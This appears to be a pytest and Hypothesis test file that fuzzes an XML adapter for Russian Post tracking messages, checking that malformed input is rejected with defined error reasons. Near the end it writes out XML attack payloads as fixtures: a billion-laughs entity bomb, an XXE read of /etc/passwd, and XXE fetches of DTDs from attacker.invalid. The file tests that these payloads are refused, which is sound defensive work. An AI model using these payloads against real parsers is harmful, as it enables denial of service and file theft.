"""Hostile input: whatever the bytes, a result or an AdapterError with a closed reason, never internal_error."""

from __future__ import annotations

import re
from datetime import datetime, timezone
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.base import AdapterError, AdapterOptions, AdapterResult
from adapters.registry import run_adapter
from schemas import CanonicalEvent, DeadLetterReason, PartnerKind

pytestmark = pytest.mark.unit

CASES = Path(__file__).parent / "cases"
FIXTURES = [p.read_bytes() for p in sorted(CASES.glob("*.xml"))]
RECEIVED = datetime(2025, 1, 1, tzinfo=timezone.utc)
SUBJECTS = st.sampled_from([None, "rp:14102192069353", "s10:RA644000001RU", "garbage", "shop:x/1", "rp:"])


def outcome_of(raw: bytes, subject: str | None = "rp:14102192069353") -> AdapterResult | AdapterError:
    options = AdapterOptions("russian_post", PartnerKind.POST, subject=subject)
    try:
        result = run_adapter("russian_post", raw, received_at=RECEIVED, options=options)
    except AdapterError as err:
        assert err.reason is not DeadLetterReason.INTERNAL_ERROR, err.message
        return err
    assert isinstance(result, AdapterResult)
    assert all(isinstance(e, CanonicalEvent) for e in result.events)
    return result


@given(st.binary(max_size=3000), SUBJECTS)
def test_arbitrary_bytes(raw: bytes, subject: str | None) -> None:
    outcome_of(raw, subject)


_TAGS = [
    "Envelope", "Body", "getOperationHistoryResponse", "OperationHistoryData", "historyRecord",
    "OperationParameters", "OperType", "OperAttr", "Id", "Name", "OperDate", "ItemParameters", "Barcode",
    "AddressParameters", "OperationAddress", "Index", "Description", "CountryOper", "Code2A",
    "FinanceParameters", "Payment", "Value", "MassRate", "CustomDuty", "answerByTicketResponse", "value",
    "Item", "Operation", "Error", "error", "PostalOrderEventsForMaiOutput", "PostalOrderEvent", "Fault", "Text",
]
_ATTRIBUTES = [
    "Barcode", "OperTypeID", "OperCtgID", "OperName", "DateOper", "IndexOper", "ErrorTypeID", "ErrorName",
    "Number", "EventDateTime", "EventType", "EventName", "IndexEvent", "SumPaymentForward", "CountryEventCode",
]
_VALUES = st.one_of(
    st.sampled_from([
        "1", "2", "8", "0", "26", "99", "-1", "", " ", "08", "1.5", "١",
        "08.09.2015 17:07:00", "31.02.2024 10:00:00", "01.01.0001 00:00:00", "31.12.9999 23:59:59",
        "2015-07-09T18:08:00.000+03:00", "0001-01-01T00:00:00+05:00", "9999-12-31T23:59:59-05:00", "2015-07-09",
        "45008378901234", "14102192069353", "RA644000005RU", "ra 644 000 005 ru", "630000", "690000", "800855",
        "RU", "ru", "2500000", "99999999999999999999", "1e5",
    ]),
    st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=24),
)
_NAMESPACES = st.sampled_from(
    ["", "{http://russianpost.org/operationhistory/data}", "{http://fclient.russianpost.org}"]
)


def _element(tag: str, ns: str, attributes: dict[str, str], text: str | None, children: list[ET.Element]) -> ET.Element:
    element = ET.Element(ns + tag, attributes)
    element.text = text
    element.extend(children)
    return element


_LEAF = st.builds(
    _element, st.sampled_from(_TAGS), _NAMESPACES, st.dictionaries(st.sampled_from(_ATTRIBUTES), _VALUES, max_size=4),
    st.one_of(st.none(), _VALUES), st.just([]),
)
_TREES = st.recursive(
    _LEAF,
    lambda children: st.builds(
        _element, st.sampled_from(_TAGS), _NAMESPACES,
        st.dictionaries(st.sampled_from(_ATTRIBUTES), _VALUES, max_size=4),
        st.one_of(st.none(), _VALUES), st.lists(children, max_size=5),
    ),
    max_leaves=30,
)




def _record(fields: dict[str, str]) -> ET.Element:
    """A historyRecord with some of its fields, each at its path.

    docs/partners/russian-post.md#historyrecord-single-access
    """
    paths = {
        "Barcode": ("ItemParameters", "Barcode"), "OperType": ("OperationParameters", "OperType", "Id"),
        "OperAttr": ("OperationParameters", "OperAttr", "Id"), "OperDate": ("OperationParameters", "OperDate"),
        "Index": ("AddressParameters", "OperationAddress", "Index"),
        "Code2A": ("AddressParameters", "CountryOper", "Code2A"),
        "Payment": ("FinanceParameters", "Payment"), "CustomDuty": ("FinanceParameters", "CustomDuty"),
    }
    record = ET.Element("historyRecord")
    for field, text in fields.items():
        parent = record
        for name in paths[field]:
            found = parent.find(name)
            parent = found if found is not None else ET.SubElement(parent, name)
        parent.text = text
    return record


_FIELDS = ["Barcode", "OperType", "OperAttr", "OperDate", "Index", "Code2A", "Payment", "CustomDuty"]
_HISTORIES = st.lists(st.dictionaries(st.sampled_from(_FIELDS), _VALUES, max_size=8).map(_record), max_size=4).map(
    lambda records: _element("getOperationHistoryResponse", "", {}, None, records)
)
_OPERATIONS = st.dictionaries(st.sampled_from(_ATTRIBUTES), _VALUES, max_size=6).map(
    lambda attributes: ET.Element("Operation", attributes)
)
_ITEMS = st.builds(
    lambda attributes, operations: _element("Item", "", attributes, None, operations),
    st.dictionaries(st.just("Barcode"), _VALUES), st.lists(_OPERATIONS, max_size=4),
)
_BATCHES = st.lists(_ITEMS, max_size=4).map(lambda items: _element("answerByTicketResponse", "", {}, None, items))
_COD = st.lists(_OPERATIONS.map(lambda op: ET.Element("PostalOrderEvent", op.attrib)), max_size=4).map(
    lambda events: _element("PostalOrderEventsForMaiOutput", "", {}, None, events)
)


@given(st.one_of(_TREES, _HISTORIES, _BATCHES, _COD), SUBJECTS)
def test_xml_shapes(tree: ET.Element, subject: str | None) -> None:
    outcome_of(ET.tostring(tree, encoding="utf-8"), subject)


_MUTATIONS = st.lists(
    st.tuples(st.integers(0, 10_000), st.integers(0, 8), st.binary(max_size=8)), min_size=1, max_size=6
)


@given(st.sampled_from(FIXTURES), _MUTATIONS, SUBJECTS)
def test_mutated_fixture_bytes(raw: bytes, mutations: list[tuple[int, int, bytes]], subject: str | None) -> None:
    data = bytearray(raw)
    for position, width, replacement in mutations:
        at = position % (len(data) + 1)
        data[at:at + width] = replacement
    outcome_of(bytes(data), subject)


_SLOTS = re.compile(rb'="([^"]*)"|>([^<>]+)<')


@given(st.sampled_from(FIXTURES), st.data())
def test_mutated_fixture_values(raw: bytes, data: st.DataObject) -> None:
    # Replace attribute values and element texts with odd ones: reaches the field readers.
    slots = list(_SLOTS.finditer(raw))
    chosen = data.draw(st.lists(st.sampled_from(slots), min_size=1, max_size=4, unique_by=lambda m: m.start()))
    result = raw
    for match in sorted(chosen, key=lambda m: m.start(), reverse=True):
        group = 1 if match.group(1) is not None else 2
        value = data.draw(_VALUES).replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").encode("utf-8")
        result = result[: match.start(group)] + value + result[match.end(group):]
    outcome_of(result, data.draw(SUBJECTS))


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<answerByTicketResponse><Item Barcode="45008378901234">
<Operation OperTypeID="1" OperCtgID="1" OperName="&lol9;" DateOper="08.09.2015 17:07:00" IndexOper="450083"/>
</Item></answerByTicketResponse>
"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<getOperationHistoryResponse><historyRecord>
<ItemParameters><Barcode>&xxe;</Barcode></ItemParameters>
</historyRecord></getOperationHistoryResponse>
"""

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE foo SYSTEM "http://attacker.invalid/evil.dtd">
<getOperationHistoryResponse/>
"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote; ]>
<PostalOrderEventsForMaiOutput/>
"""


@pytest.mark.parametrize(
    "payload",
    [BILLION_LAUGHS, XXE_FILE, XXE_NETWORK, XXE_PARAMETER],
    ids=["billion_laughs", "xxe_file", "xxe_dtd", "xxe_parameter"],
)
def test_entity_payloads_rejected_before_expansion(payload: bytes) -> None:
    # `unsafe_xml` is the refusal of the entity declaration itself (defusedxml raises on the
    # DTD, before any expansion or fetch), so no duration needs asserting; a parser that did
    # expand would hang or exhaust memory, which the suite's timeout reports.
    outcome = outcome_of(payload)
    assert isinstance(outcome, AdapterError)
    assert outcome.reason is DeadLetterReason.UNSAFE_XML
    assert outcome.message == "DTDForbidden"  # refused at the DTD, before any entity was read


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"not xml at all", DeadLetterReason.NOT_XML),
        (b"", DeadLetterReason.NOT_XML),
        (b"<root><child/></root>", DeadLetterReason.UNKNOWN_FORMAT),
        (b"<a>" * 100 + b"<Item/>" + b"</a>" * 100, DeadLetterReason.TOO_DEEP),
        (b"<historyRecord>" + b" " * (5 * 1024 * 1024) + b"</historyRecord>", DeadLetterReason.TOO_LARGE),
    ],
    ids=["text", "empty", "other_xml", "deep", "large"],
)
def test_whole_message_failures_have_closed_reasons(raw: bytes, reason: DeadLetterReason) -> None:
    outcome = outcome_of(raw)
    assert isinstance(outcome, AdapterError)
    assert outcome.reason is reason


def test_history_naming_no_parcel_needs_the_subject_header() -> None:
    raw = (
        b"<getOperationHistoryResponse><historyRecord><OperationParameters><OperType><Id>1</Id></OperType>"
        b"<OperDate>2015-07-09T18:08:00.000+03:00</OperDate></OperationParameters></historyRecord>"
        b"</getOperationHistoryResponse>"
    )
    missing = outcome_of(raw, subject=None)
    assert isinstance(missing, AdapterError) and missing.reason is DeadLetterReason.MISSING_SUBJECT
    named = outcome_of(raw, subject="s10:RA644000005RU")
    assert isinstance(named, AdapterResult)
    assert [e.subject for e in named.events] == [("s10:RA644000005RU",)]
